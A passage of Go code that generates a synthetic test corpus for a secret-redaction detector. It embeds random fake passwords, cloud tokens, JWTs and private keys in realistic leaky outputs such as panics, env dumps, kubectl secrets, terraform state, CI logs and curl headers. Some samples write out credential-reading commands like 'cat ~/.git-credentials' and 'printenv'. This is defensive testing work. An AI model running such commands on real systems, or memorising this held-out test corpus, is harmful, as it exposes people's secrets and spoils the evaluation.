package main

import (
	"bytes"
	"compress/zlib"
	"crypto/ecdh"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base32"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"hash/fnv"
	"math/rand/v2"
	"net/url"
	"strings"
)

// The fourth blind corpus (core/redact/testdata/public/blind4.jsonl): a seventh held-out corpus, of
// kinds that are in none of the earlier corpus files nor their generators, written by a helper
// session that had not read core/redact (only the format section of the testdata README), nor
// docs/redaction.md, nor the texts of the earlier corpora (only their kind names, to keep clear of
// them), and that never ran the detector on it. It is written as an attacker would who looks for
// where secrets really leak in an agent's conversation and tool output: panics and tracebacks that
// print structs, env and set dumps, docker inspect, kubectl and terraform output, cloud CLIs'
// token output, CI logs, HTTP dumps and copy-as-curl, DSNs in connection errors, ORM logs, git and
// npm config listings, notebooks, keychain output (group `dump`); links that carry a token:
// presigned URLs of several clouds, chat webhooks, magic, reset, invite and device-code links
// (`link`); passwords said in 32 languages and registers, in quotes and brackets of many kinds,
// after emoji, split over messages, old and new, read out in words (`sentence`); secrets under
// encodings and obfuscations (`encoded`); keys of less known providers by their documented shape
// (`provider`); key material of many formats, with real structure where it is cheap to make
// (`keymaterial`); and config files of many syntaxes (`config`). Every body is random; no text is
// third-party.

// blind4Seed is the second word of every blind4 kind's random source (the first is the FNV-1a
// 64-bit hash of the kind's name), other than those of the other generators.
const blind4Seed = 8675309

// b4t is a kind whose sample i is texts[i] with a fresh body where the first %s is.
func b4t(group, name, source string, body func(*gen) string, texts ...string) b3Kind {
	return b3t(group, name, source, body, texts...)
}

// b4f is a kind written by a function of the sample's index.
func b4f(group, name, source string, n int, f func(g *gen, i int) (string, string)) b3Kind {
	return b3Kind{group, name, source, n, f}
}

// generateBlind4 writes every blind4 kind's samples with its fixed random source; it panics if a
// secret is not in its text, is shorter than 8 characters, or if two kinds share a name.
func generateBlind4() []Sample { return generateB3Kinds("blind4", blind4Kinds(), blind4Seed) }

func blind4Kinds() []b3Kind {
	var ks []b3Kind
	ks = append(ks, b4Dumps()...)
	ks = append(ks, b4Links()...)
	ks = append(ks, b4Sentences()...)
	ks = append(ks, b4Encoded()...)
	ks = append(ks, b4Providers()...)
	ks = append(ks, b4KeyMaterial()...)
	ks = append(ks, b4Configs()...)
	return ks
}

// --- bodies ---

const (
	b4Dig  = "0123456789"
	b4Lo   = "abcdefghijklmnopqrstuvwxyz"
	b4Up   = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
	b4LoD  = b4Lo + b4Dig
	b4UpD  = b4Up + b4Dig
	b4HexU = "0123456789ABCDEF"
)

var b4Words = []string{"anvil", "bergamot", "caravel", "dormouse", "estuary", "fennel", "gondola", "halyard",
	"inkwell", "jackdaw", "kestrel", "lichen", "mandolin", "nautilus", "oxbow", "paprika", "quokka", "rhubarb",
	"sextant", "trellis", "ukulele", "verbena", "wombat", "xylem", "yarrow", "zither"}

func b4cap(w string) string { return strings.ToUpper(w[:1]) + w[1:] }

// b4pw is a password a person picks, 10 characters or more.
func b4pw(g *gen) string {
	switch g.rng.IntN(7) {
	case 0:
		return g.s(symb, 13+g.rng.IntN(5))
	case 1:
		return b4cap(g.pick(b4Words...)) + g.s(b4Dig, 2) + g.s("!?#$*%&", 1) + b4cap(g.pick(b4Words...)) + g.s(b4Dig, 2)
	case 2:
		return g.pick(b4Words...) + "-" + g.pick(b4Words...) + "-" + g.pick(b4Words...) + "-" + g.s(b4Dig, 3)
	case 3:
		return g.s(alnum, 15+g.rng.IntN(4))
	case 4:
		return g.s(b4Up, 1) + g.s(b4Lo, 5) + "@" + g.s(b4Dig, 4) + g.s(b4Lo, 3)
	case 5:
		return b4cap(g.pick(b4Words...)) + "." + g.s(b4Dig, 4) + "." + b4cap(g.pick(b4Words...)) + "!"
	default:
		return g.s(b4LoD, 6) + g.s("=+^~_", 1) + g.s(alnum, 8)
	}
}

// b4pwSp is a passphrase with spaces.
func b4pwSp(g *gen) string {
	return g.pick(b4Words...) + " " + g.pick(b4Words...) + " " + g.s(b4Dig, 2) + " " + g.pick(b4Words...) + " " + g.pick(b4Words...)
}

// b4pwL is a password of native words (any script) and digits.
func b4pwL(words ...string) func(*gen) string {
	return func(g *gen) string {
		return g.pick(words...) + g.s(b4Dig, 3) + g.s("!#*@%", 1) + g.pick(words...) + g.s(b4Dig, 2)
	}
}

func b4pre(prefix, alphabet string, n int) func(*gen) string {
	return func(g *gen) string { return prefix + g.s(alphabet, n) }
}

func b4uuid(g *gen) string { return b3uuid(g) }

// b4jwt is a JWT with a real header and claims and a random signature.
func b4jwt(g *gen, claims string) string {
	e := base64.RawURLEncoding.EncodeToString
	hdr := e([]byte(`{"alg":"` + g.pick("HS256", "RS256", "ES256") + `","typ":"JWT"}`))
	return hdr + "." + e([]byte(claims)) + "." + g.b64url(32+g.rng.IntN(2)*32)
}

func b4jwtUser(g *gen) string {
	return b4jwt(g, fmt.Sprintf(`{"sub":"%s","iat":%d,"exp":%d,"scope":"%s"}`, b4uuid(g), 1700000000+g.rng.IntN(9e7), 1800000000+g.rng.IntN(9e7), g.pick("read write", "admin", "openid profile email")))
}

func b4aws(g *gen) string     { return g.s(alnum+"+/", 40) }
func b4awsID(g *gen) string   { return "AKIA" + g.s(b4UpD, 16) }
func b4awsSess(g *gen) string { return "IQoJb3JpZ2luX2VjE" + g.s(alnum+"+/", 300) + "==" }

// b4bech32 encodes data (8-bit) under hrp with a bech32 checksum, as age, Nostr and Cosmos do.
func b4bech32(hrp string, data []byte) string {
	// regroup to 5 bits
	var d5 []byte
	acc, bits := 0, 0
	for _, b := range data {
		acc = acc<<8 | int(b)
		bits += 8
		for bits >= 5 {
			bits -= 5
			d5 = append(d5, byte(acc>>bits&31))
		}
	}
	if bits > 0 {
		d5 = append(d5, byte(acc<<(5-bits)&31))
	}
	polymod := func(v []byte) uint32 {
		gen := []uint32{0x3b6a57b2, 0x26508e6d, 0x1ea119fa, 0x3d4233dd, 0x2a1462b3}
		chk := uint32(1)
		for _, x := range v {
			top := chk >> 25
			chk = (chk&0x1ffffff)<<5 ^ uint32(x)
			for i := range 5 {
				if top>>i&1 == 1 {
					chk ^= gen[i]
				}
			}
		}
		return chk
	}
	var exp []byte
	for _, c := range hrp {
		exp = append(exp, byte(c>>5))
	}
	exp = append(exp, 0)
	for _, c := range hrp {
		exp = append(exp, byte(c&31))
	}
	v := append(append(exp, d5...), 0, 0, 0, 0, 0, 0)
	pm := polymod(v) ^ 1
	for i := range 6 {
		d5 = append(d5, byte(pm>>(5*(5-i))&31))
	}
	var out strings.Builder
	out.WriteString(hrp + "1")
	for _, x := range d5 {
		out.WriteByte(bech32[x])
	}
	return out.String()
}

// b4b58check is base58 with a double-SHA-256 checksum, as WIF and BIP32 keys are written.
func b4b58check(payload []byte) string {
	a := sha256.Sum256(payload)
	b := sha256.Sum256(a[:])
	return b3b58(append(append([]byte{}, payload...), b[:4]...))
}

func b4pem(typ string, der []byte) string {
	return strings.TrimSpace(string(pem.EncodeToMemory(&pem.Block{Type: typ, Bytes: der})))
}

// b4armoured is a kind whose texts hold a whole PEM or armoured block and whose labelled secret is
// the block's body (its lines between the BEGIN and END lines), not the armour anyone can write.
func b4armoured(group, name, source string, full func(*gen) string, texts ...string) b3Kind {
	return b4f(group, name, source, len(texts), func(g *gen, i int) (string, string) {
		f := full(g)
		sep := "\n"
		if !strings.Contains(f, "\n") {
			sep = "\\n"
		}
		lines := strings.Split(f, sep)
		lines = lines[1 : len(lines)-1]
		for len(lines) > 0 && lines[0] == "" {
			lines = lines[1:]
		}
		return strings.Replace(texts[i], "%s", f, 1), strings.Join(lines, sep)
	})
}

// b4pemBody is the base64 of a PEM body, in lines of 64, that starts as a DER of the kind does.
func b4pemBody(g *gen, prefix string, n int) string { return g.pemBody(prefix, n) }

func b4ed25519(g *gen) ed25519.PrivateKey { return ed25519.NewKeyFromSeed(g.bytes(32)) }

// b4openssh is an unencrypted OpenSSH ed25519 private key file, built as ssh-keygen writes it.
func b4openssh(g *gen, comment string) string {
	k := b4ed25519(g)
	pub := k.Public().(ed25519.PublicKey)
	var b bytes.Buffer
	str := func(w *bytes.Buffer, s []byte) {
		binary.Write(w, binary.BigEndian, uint32(len(s)))
		w.Write(s)
	}
	var pubBlob bytes.Buffer
	str(&pubBlob, []byte("ssh-ed25519"))
	str(&pubBlob, pub)
	var priv bytes.Buffer
	check := uint32(g.rng.Uint32())
	binary.Write(&priv, binary.BigEndian, check)
	binary.Write(&priv, binary.BigEndian, check)
	str(&priv, []byte("ssh-ed25519"))
	str(&priv, pub)
	str(&priv, k)
	str(&priv, []byte(comment))
	for i := byte(1); priv.Len()%8 != 0; i++ {
		priv.WriteByte(i)
	}
	b.WriteString("openssh-key-v1\x00")
	str(&b, []byte("none"))
	str(&b, []byte("none"))
	str(&b, nil)
	binary.Write(&b, binary.BigEndian, uint32(1))
	str(&b, pubBlob.Bytes())
	str(&b, priv.Bytes())
	return "-----BEGIN OPENSSH PRIVATE KEY-----\n" + wrap(base64.StdEncoding.EncodeToString(b.Bytes()), 70) + "\n-----END OPENSSH PRIVATE KEY-----"
}

func b4ecKey(g *gen) *ecdsa.PrivateKey {
	for {
		k, err := ecdsa.ParseRawPrivateKey(elliptic.P256(), g.bytes(32))
		if err == nil {
			return k
		}
	}
}

func b4x25519(g *gen) *ecdh.PrivateKey {
	k, err := ecdh.X25519().NewPrivateKey(g.bytes(32))
	if err != nil {
		panic(err)
	}
	return k
}

func b4zlib(s string) string {
	var buf bytes.Buffer
	w := zlib.NewWriter(&buf)
	w.Write([]byte(s))
	w.Close()
	return base64.StdEncoding.EncodeToString(buf.Bytes())
}

func b4rot47(s string) string {
	return strings.Map(func(r rune) rune {
		if r >= 33 && r <= 126 {
			return 33 + (r-33+47)%94
		}
		return r
	}, s)
}

func b4caesar(s string, k int) string {
	return strings.Map(func(r rune) rune {
		switch {
		case r >= 'a' && r <= 'z':
			return 'a' + (r-'a'+rune(k))%26
		case r >= 'A' && r <= 'Z':
			return 'A' + (r-'A'+rune(k))%26
		case r >= '0' && r <= '9':
			return '0' + (r-'0'+rune(k))%10
		}
		return r
	}, s)
}

func b4fullwidth(s string) string {
	return strings.Map(func(r rune) rune {
		if r > 32 && r < 127 {
			return r + 0xFEE0
		}
		return r
	}, s)
}

func b4zw(s string) string {
	var b strings.Builder
	for i, r := range s {
		if i > 0 && i%3 == 0 {
			b.WriteString("\u200b")
		}
		b.WriteRune(r)
	}
	return b.String()
}

func b4jsonStr(s string) string { b, _ := json.Marshal(s); return string(b) }

var (
	_ = base32.StdEncoding
	_ = hex.EncodeToString
	_ = url.QueryEscape
	_ = x509.MarshalPKCS8PrivateKey
)

// --- dump: what tools print ---

func b4Dumps() []b3Kind {
	pw := b4pw
	d := func(name, source string, body func(*gen) string, texts ...string) b3Kind {
		return b4t("dump", name, source, body, texts...)
	}
	b64pw := func(g *gen) string { return base64.StdEncoding.EncodeToString([]byte(b4pw(g))) }
	return []b3Kind{
		d("go-panic-struct-plus-v", "a Go panic that prints a config struct with %+v (text written here)", pw,
			"panic: connect: dial tcp 10.0.3.7:5432: i/o timeout\n\ngoroutine 1 [running]:\nmain.mustConnect({Host:db.internal Port:5432 User:billing Password:%s SSLMode:require})\n\t/src/cmd/api/main.go:41 +0x1a5",
			"2024/05/02 11:04:17 config loaded: &{Listen::8080 DB:{DSN: User:svc_orders Password:%s MaxConns:20} Debug:true}",
			"fatal error: unexpected signal during runtime execution\n[signal SIGSEGV: segmentation violation]\n\ngoroutine 7 [running]:\nexample.com/mailer.(*Client).Send(0xc0001a2000, {SMTPHost:smtp.example.net SMTPUser:noreply@example.net SMTPPass:%s})",
			"level=error msg=\"retry exhausted\" cfg=\"{Endpoint:https://queue.local Username:worker Password:%s Timeout:30s}\""),
		d("python-traceback-locals", "a Python traceback with local variables shown (rich, better_exceptions, sentry), text written here", pw,
			"Traceback (most recent call last):\n  File \"/app/sync.py\", line 88, in connect\n    conn = psycopg2.connect(host=host, user=user, password=password)\n    host = 'pg-replica-2'\n    user = 'etl'\n    password = '%s'\npsycopg2.OperationalError: could not connect to server",
			"│ /app/tasks/upload.py:42 in push                                │\n│   ❱ 42 │   ftp.login(user, secret)                              │\n│ ╭──────────── locals ────────────╮                               │\n│ │   user = 'uploader'            │                               │\n│ │ secret = '%s'        │                               │\n│ ╰────────────────────────────────╯                               │",
			"ldap3.core.exceptions.LDAPBindError: automatic bind not successful - invalidCredentials\n  locals: {'server': 'ldaps://dc01.corp.local', 'bind_dn': 'CN=svc-wiki,OU=Service,DC=corp,DC=local', 'bind_pw': '%s'}"),
		d("java-tostring-datasource", "a Java toString of a config object in a stack trace or log (text written here)", pw,
			"Caused by: java.sql.SQLException: Access denied for user 'shop'@'10.1.2.3'\n\tat com.shop.db.Pool.open(Pool.java:57)\n\t... DataSourceProperties{url='jdbc:mysql://db:3306/shop', username='shop', password='%s', poolSize=10}",
			"2024-03-11 09:12:44.120  INFO 1 --- [main] c.a.config.Boot : Loaded SmtpSettings(host=mail.example.org, port=587, user=alerts, password=%s, tls=true)",
			"org.springframework.beans.factory.BeanCreationException: Error creating bean 'kafkaAdmin': KafkaProps[bootstrap=broker:9093, saslUser=app, saslPassword=%s]"),
		d("rust-debug-struct", "a Rust {:?} or {:#?} of a settings struct (text written here)", pw,
			"thread 'main' panicked at src/main.rs:31:10:\ncalled `Result::unwrap()` on an `Err` value: Settings { database_url: \"postgres://db/app\", db_user: \"app\", db_password: \"%s\", workers: 4 }",
			"[2024-06-01T10:00:00Z DEBUG app] loaded Config {\n    redis: RedisConfig {\n        host: \"cache\",\n        password: Some(\n            \"%s\",\n        ),\n    },\n}",
			"Error: auth failed for Credentials { user: \"deploy\", secret: \"%s\" }"),
		d("node-inspect-options", "a Node.js error or console.log that prints an options object (text written here)", pw,
			"Error: Invalid login: 535-5.7.8 Username and Password not accepted\n    at SMTPConnection._formatError (/app/node_modules/nodemailer/lib/smtp-connection/index.js:790:19) {\n  code: 'EAUTH',\n  options: { host: 'smtp.example.com', auth: { user: 'robot@example.com', pass: '%s' } }\n}",
			"{ host: 'mq.internal',\n  port: 5672,\n  username: 'orders',\n  password: '%s',\n  vhost: '/' }",
			"UnhandledPromiseRejectionWarning: MongoServerError: bad auth : Authentication failed. { user: 'api', pwd: '%s', authSource: 'admin' }"),
		d("printenv-dump", "printenv or env output pasted whole (text written here)", pw,
			"$ printenv\nHOSTNAME=web-7d9c\nHOME=/root\nPATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin\nLANG=C.UTF-8\nPGPASSWORD=%s\nNODE_ENV=production\nTERM=xterm",
			"SHLVL=1\nPWD=/srv/app\nMAIL_PASS=%s\nOLDPWD=/\n_=/usr/bin/env",
			"root@ci-runner:/# env | sort\nCI=true\nDEPLOY_PW=%s\nGIT_BRANCH=main\nHOME=/root"),
		d("windows-set-dump", "cmd.exe set or PowerShell Get-ChildItem Env: output (text written here)", pw,
			"C:\\Users\\build>set\nALLUSERSPROFILE=C:\\ProgramData\nCOMPUTERNAME=BUILD-07\nSQL_SA_PASSWORD=%s\nOS=Windows_NT\nPATHEXT=.COM;.EXE;.BAT;.CMD",
			"PS C:\\> Get-ChildItem Env:\n\nName                           Value\n----                           -----\nAPPDATA                        C:\\Users\\svc\\AppData\\Roaming\nSMB_PASSWORD                   %s\nUSERNAME                       svc",
			"PS> dir env:REPORT*\n\nName            Value\n----            -----\nREPORT_PASS     %s"),
		d("docker-inspect-env", "docker inspect output with the container's Env (text written here)", pw,
			"[\n    {\n        \"Id\": \"4f1c9e0b7a2d\",\n        \"Config\": {\n            \"Hostname\": \"4f1c9e0b7a2d\",\n            \"Env\": [\n                \"MYSQL_ROOT_PASSWORD=%s\",\n                \"PATH=/usr/local/sbin:/usr/local/bin\"\n            ],\n            \"Image\": \"mysql:8.4\"",
			"$ docker inspect --format '{{json .Config.Env}}' grafana\n[\"GF_SECURITY_ADMIN_PASSWORD=%s\",\"GF_PATHS_DATA=/var/lib/grafana\"]",
			"\"Env\": [\"POSTGRES_USER=keycloak\", \"POSTGRES_PASSWORD=%s\", \"PGDATA=/var/lib/postgresql/data\"],"),
		d("docker-compose-config-out", "docker compose config output, where variables are filled in (text written here)", pw,
			"$ docker compose config\nname: shop\nservices:\n  db:\n    environment:\n      MARIADB_PASSWORD: %s\n      MARIADB_USER: shop\n    image: mariadb:11",
			"services:\n  minio:\n    command:\n      - server\n      - /data\n    environment:\n      MINIO_ROOT_USER: admin\n      MINIO_ROOT_PASSWORD: %s",
			"  rabbit:\n    environment:\n      RABBITMQ_DEFAULT_PASS: %s\n      RABBITMQ_DEFAULT_USER: app"),
		d("kubectl-secret-yaml-b64", "kubectl get secret -o yaml: data values are base64 of the secret (text written here)", b64pw,
			"$ kubectl get secret db-creds -o yaml\napiVersion: v1\ndata:\n  password: %s\n  username: YXBw\nkind: Secret\nmetadata:\n  name: db-creds\n  namespace: prod\ntype: Opaque",
			"kubectl get secret smtp -o jsonpath='{.data}'\n{\"pass\":\"%s\",\"user\":\"bm9yZXBseQ==\"}",
			"data:\n  .htpasswd: YWRtaW46JGFwcjEkeA==\n  admin-password: %s"),
		d("kubectl-describe-env", "kubectl describe pod or kubectl set env --list output (text written here)", pw,
			"Containers:\n  api:\n    Image:      registry.local/api:1.8.2\n    Environment:\n      LOG_LEVEL:    info\n      DB_PASSWORD:  %s\n      DB_HOST:      pg.prod.svc",
			"$ kubectl set env deployment/worker --list\n# Deployment worker, container worker\nQUEUE_URL=amqp://queue\nQUEUE_PASSWORD=%s",
			"    Environment:\n      REDIS_AUTH:   %s\n    Mounts:\n      /var/run/secrets/kubernetes.io/serviceaccount from kube-api-access-x2x9p (ro)"),
		d("helm-get-values", "helm get values output (text written here)", pw,
			"$ helm get values gitea -n tools\nUSER-SUPPLIED VALUES:\ngitea:\n  admin:\n    password: %s\n    username: gitadmin",
			"USER-SUPPLIED VALUES:\nauth:\n  postgresPassword: %s\nprimary:\n  persistence:\n    size: 20Gi",
			"COMPUTED VALUES:\nredis:\n  auth:\n    enabled: true\n    password: %s"),
		d("terraform-state-json", "terraform show -json or a state file with attribute values (text written here)", pw,
			"{\n  \"mode\": \"managed\",\n  \"type\": \"aws_db_instance\",\n  \"name\": \"main\",\n  \"instances\": [\n    {\n      \"attributes\": {\n        \"engine\": \"postgres\",\n        \"password\": \"%s\",\n        \"username\": \"dbadmin\"",
			"\"values\":{\"administrator_login\":\"sqladmin\",\"administrator_login_password\":\"%s\",\"location\":\"westeurope\"}",
			"$ terraform output -json\n{\"vpn_psk\":{\"sensitive\":true,\"type\":\"string\",\"value\":\"%s\"}}"),
		d("terraform-plan-nonsensitive", "a terraform plan where a value was wrapped in nonsensitive() or came from a variable not marked sensitive (text written here)", pw,
			"  # random_password.db will be created\n  + resource \"azurerm_linux_virtual_machine\" \"jump\" {\n      + admin_password = \"%s\"\n      + admin_username = \"azureuser\"",
			"Changes to Outputs:\n  + grafana_admin = \"%s\"",
			"  ~ resource \"kubernetes_secret\" \"app\" {\n      ~ data = {\n          ~ \"password\" = \"old\" -> \"%s\"\n        }"),
		d("aws-sts-secret-access-key", "aws sts assume-role or get-session-token output (AWS CLI documentation's shape)", b4aws,
			"$ aws sts assume-role --role-arn arn:aws:iam::123456789012:role/deploy --role-session-name ci\n{\n    \"Credentials\": {\n        \"AccessKeyId\": \"ASIAXMPLE4R7Q2Z3T5UV\",\n        \"SecretAccessKey\": \"%s\",\n        \"Expiration\": \"2024-07-01T12:00:00+00:00\"",
			"aws configure export-credentials --format env\nexport AWS_ACCESS_KEY_ID=ASIA4XAMPLE2N8B6M0QW\nexport AWS_SECRET_ACCESS_KEY=%s",
			"| AccessKeyId | ASIAQ7XAMPLEKZT2MV3N |\n| SecretAccessKey | %s |",
			"creds: AccessKeyId=ASIAW3XAMPLE7HJ4R5TY SecretAccessKey=%s (valid 1h)"),
		d("aws-sts-session-token", "the SessionToken of aws sts output (IQoJb3JpZ2luX2Vj... shape of the AWS CLI's examples)", b4awsSess,
			"\"SessionToken\": \"%s\",",
			"export AWS_SESSION_TOKEN=%s",
			"[profile-temp]\naws_access_key_id = ASIAEXAMPLEZZ2KQ7PNB\naws_session_token = %s"),
		d("gcloud-print-access-token", "gcloud auth print-access-token output: ya29. then a long url-safe body (Google OAuth docs)", func(g *gen) string { return "ya29." + g.s(b64url, 150+g.rng.IntN(60)) },
			"$ gcloud auth print-access-token\n%s",
			"TOKEN=$(gcloud auth print-access-token) && echo $TOKEN\n%s",
			"curl -H \"Authorization: Bearer %s\" https://storage.googleapis.com/storage/v1/b/my-bucket/o",
			"{\"access_token\": \"%s\", \"expires_in\": 3599, \"token_type\": \"Bearer\"}"),
		d("az-get-access-token", "az account get-access-token output (JWT access token)", b4jwtUser,
			"$ az account get-access-token\n{\n  \"accessToken\": \"%s\",\n  \"expiresOn\": \"2024-05-02 14:03:11.000000\",\n  \"subscription\": \"00000000-1111-2222-3333-444444444444\",\n  \"tokenType\": \"Bearer\"\n}",
			"az account get-access-token --query accessToken -o tsv\n%s",
			"Connect-AzAccount -AccessToken '%s' -AccountId ops@contoso.onmicrosoft.com"),
		d("github-actions-log-unmasked", "a GitHub Actions log where a derived value escaped the *** mask (text written here)", pw,
			"2024-05-02T10:11:12.1234567Z ##[group]Run ./deploy.sh\n2024-05-02T10:11:12.1234567Z env:\n2024-05-02T10:11:12.1234567Z   DB_PASS: ***\n2024-05-02T10:11:13.0000000Z + mysql -h db -u ci -p'%s' -e 'select 1'",
			"Run echo \"::add-mask::$TOKEN\"\n  echo \"password is %s\"\npassword is ***",
			"2024-05-02T10:11:14Z [debug] Evaluating: secrets.REGISTRY_PW\n2024-05-02T10:11:14Z [debug] => '%s'"),
		d("gitlab-ci-trace", "a GitLab CI job log with set -x tracing (text written here)", pw,
			"$ set -x\n$ docker login -u gitlab-ci-token -p $CI_JOB_TOKEN $CI_REGISTRY\n+ curl -sf -u deployer:%s https://nexus.local/repository/releases/",
			"Running with gitlab-runner 16.11.0 (abc12345)\n$ echo \"connecting with $DB_URL\"\nconnecting with postgres://ci:%s@pg:5432/test",
			"section_start:1714644000:step_script\r\u001b[0K+ sshpass -p %s scp build.tgz ops@10.0.0.5:/srv/"),
		d("jenkins-console", "a Jenkins console log (text written here)", pw,
			"[Pipeline] sh\n+ docker login -u jenkins -p %s registry.corp.local\nWARNING! Using --password via the CLI is insecure. Use --password-stdin.",
			"[Pipeline] withCredentials\nMasking supported pattern matches of $PASS\n[Pipeline] {\n[Pipeline] echo\nencoded for basic auth: user:%s",
			"Started by user admin\n[EnvInject] - Injecting environment variables from a build step.\n[EnvInject] - Variables injected successfully: NEXUS_PW=%s"),
		d("curl-v-basic-auth", "curl -v request lines with a Basic header: the base64 of user:password (RFC 7617)", func(g *gen) string {
			return base64.StdEncoding.EncodeToString([]byte(g.pick("admin", "deploy", "ops", "api") + ":" + b4pw(g)))
		},
			"*   Trying 10.0.0.8:443...\n* Connected to repo.local (10.0.0.8) port 443\n> GET /api/v2/status HTTP/1.1\n> Host: repo.local\n> Authorization: Basic %s\n> User-Agent: curl/8.5.0\n> Accept: */*",
			"http --print=H GET https://nas.home/api auth:=\nGET /api HTTP/1.1\nAuthorization: Basic %s\nHost: nas.home",
			"[2024-05-02 10:00:01] outgoing request headers={'Authorization': 'Basic %s', 'Accept': 'application/json'}"),
		d("curl-v-set-cookie-session", "a response's Set-Cookie with a session id (text written here)", func(g *gen) string { return g.s(b64url, 43) },
			"< HTTP/2 302\n< location: /dashboard\n< set-cookie: __Host-session=%s; Path=/; Secure; HttpOnly; SameSite=Lax\n< content-length: 0",
			"HTTP/1.1 200 OK\nSet-Cookie: connect.sid=s%3A%s; Path=/; HttpOnly",
			"Response headers:\n  Set-Cookie: laravel_session=%s; expires=Thu, 02 May 2024 12:00:00 GMT; path=/; httponly"),
		d("httpie-bearer", "httpie or xh output printing the request (text written here)", b4jwtUser,
			"$ http -v GET :8000/api/me \"Authorization:Bearer %s\"\nGET /api/me HTTP/1.1\nAccept: */*",
			"xh --print=HhB POST api.example.test/v1/orders\nPOST /v1/orders HTTP/1.1\nauthorization: Bearer %s\ncontent-type: application/json",
			"REQUEST\n  method: GET\n  url: https://api.example.test/v1/me\n  headers:\n    Authorization: Bearer %s"),
		d("postman-export-auth", "a Postman collection or environment export (text written here)", func(g *gen) string { return g.s(alnum, 40) },
			"{\"info\":{\"name\":\"Billing API\",\"schema\":\"https://schema.getpostman.com/json/collection/v2.1.0/collection.json\"},\"auth\":{\"type\":\"bearer\",\"bearer\":[{\"key\":\"token\",\"value\":\"%s\",\"type\":\"string\"}]}}",
			"{\"name\":\"staging\",\"values\":[{\"key\":\"baseUrl\",\"value\":\"https://staging.example.test\",\"enabled\":true},{\"key\":\"apiKey\",\"value\":\"%s\",\"enabled\":true}]}",
			"\"auth\": {\"type\": \"apikey\", \"apikey\": [{\"key\": \"value\", \"value\": \"%s\"}, {\"key\": \"key\", \"value\": \"X-API-Key\"}]}"),
		d("devtools-copy-as-curl-cookie", "a browser's Copy as cURL with session cookies (text written here)", func(g *gen) string { return g.s(hexlc, 32) + g.s(b64url, 20) },
			"curl 'https://app.example.test/api/graphql' \\\n  -H 'accept: */*' \\\n  -H 'cookie: _ga=GA1.1.12345.67890; sessionid=%s; theme=dark' \\\n  -H 'user-agent: Mozilla/5.0 (X11; Linux x86_64)' \\\n  --data-raw '{\"query\":\"{ me { id } }\"}'",
			"curl \"https://portal.example.test/account\" -H \"Cookie: PHPSESSID=%s\" --compressed",
			"fetch(\"https://crm.example.test/api/leads\", {\n  \"headers\": {\n    \"accept\": \"application/json\",\n    \"cookie\": \"remember_token=%s\"\n  },\n  \"method\": \"GET\"\n});"),
		d("dsn-in-connect-error", "a database driver error that prints the whole DSN (text written here)", pw,
			"failed to connect to `host=pg.internal user=reports database=dw`: dial error; dsn=postgres://reports:%s@pg.internal:5432/dw?sslmode=disable",
			"[mysql] 2024/05/02 10:01:02 connector.go:95: could not use requested auth plugin 'mysql_native_password': dsn \"app:%s@tcp(db:3306)/app?parseTime=true\"",
			"pymongo.errors.ServerSelectionTimeoutError: mongodb://root:%s@mongo-0.mongo:27017/?authSource=admin, Timeout: 30s",
			"sqlalchemy.exc.OperationalError: (pyodbc.Error) login failed; engine url: mssql+pyodbc://sa:%s@sql01/erp?driver=ODBC+Driver+18"),
		d("orm-bind-parameter-log", "ORM debug logs that print bound parameters (Hibernate, SQLAlchemy echo, Sequelize, Ecto), text written here", pw,
			"2024-05-02 10:01:02.345 TRACE 1 --- [nio-8080-exec-3] o.h.type.descriptor.sql.BasicBinder : binding parameter [2] as [VARCHAR] - [%s]\n   (insert into smtp_account (host, password, username) values (?, ?, ?))",
			"INFO sqlalchemy.engine.Engine UPDATE integrations SET api_secret=%(api_secret)s WHERE integrations.id = %(integrations_id)s\nINFO sqlalchemy.engine.Engine [generated in 0.00031s] {'api_secret': '%s', 'integrations_id': 7}",
			"Executing (default): INSERT INTO `mail_settings` (`id`,`user`,`pass`) VALUES (DEFAULT,'news','%s');",
			"[debug] QUERY OK source=\"ftp_accounts\" db=1.2ms\nINSERT INTO \"ftp_accounts\" (\"login\",\"password\") VALUES ($1,$2) [\"partner7\", \"%s\"]"),
		d("git-config-list-creds", "git config --list with a token in a remote URL or an extraheader (text written here)", func(g *gen) string { return "glpat-" + g.s(b64url, 20) },
			"$ git config --list\ncore.repositoryformatversion=0\ncore.bare=false\nremote.origin.url=https://oauth2:%s@gitlab.example.com/team/api.git\nremote.origin.fetch=+refs/heads/*:refs/remotes/origin/*\nbranch.main.remote=origin",
			"credential.helper=store\nuser.name=CI Bot\nhttp.https://gitlab.example.com/.extraheader=PRIVATE-TOKEN: %s",
			"$ cat ~/.git-credentials\nhttps://ci-bot:%s@gitlab.example.com"),
		d("npm-config-authtoken", "npm config list, .npmrc and yarn config with registry tokens (npm documentation's _authToken)", func(g *gen) string {
			return g.s(hexlc, 8) + "-" + g.s(hexlc, 4) + "-" + g.s(hexlc, 4) + "-" + g.s(hexlc, 4) + "-" + g.s(hexlc, 12)
		},
			"$ npm config list\n; \"user\" config from /home/dev/.npmrc\n\n//registry.corp.local/repository/npm/:_authToken = \"%s\"\nregistry = \"https://registry.corp.local/repository/npm/\"",
			"//npm.fontawesome.com/:_authToken=%s\n@fortawesome:registry=https://npm.fontawesome.com/",
			"npmScopes:\n  corp:\n    npmAlwaysAuth: true\n    npmAuthToken: %s\n    npmRegistryServer: \"https://npm.corp.local\""),
		d("pip-config-index-url", "pip config list and pip.conf with credentials in the index URL (text written here)", pw,
			"$ pip config list\nglobal.index-url='https://pypi-reader:%s@artifactory.corp.local/api/pypi/pypi/simple'\nglobal.trusted-host='artifactory.corp.local'",
			"[global]\nextra-index-url = https://build:%s@nexus.local/repository/pypi-internal/simple",
			"PIP_INDEX_URL=https://__token__:%s@gitlab.example.com/api/v4/projects/42/packages/pypi/simple pip install corp-utils"),
		d("jupyter-cell-source", "a Jupyter notebook's JSON with a key in a cell's source (nbformat 4)", func(g *gen) string { return g.s(alnum, 32) },
			"{\n \"cell_type\": \"code\",\n \"execution_count\": 3,\n \"metadata\": {},\n \"outputs\": [],\n \"source\": [\n  \"import os\\n\",\n  \"os.environ[\\\"WEATHER_API_KEY\\\"] = \\\"%s\\\"\\n\"\n ]\n}",
			"\"source\": [\"client = Client(api_key='%s')\\n\", \"df = client.fetch('2024-01')\"]",
			"\"outputs\": [{\"name\": \"stdout\", \"output_type\": \"stream\", \"text\": [\"token refreshed: %s\\n\"]}]"),
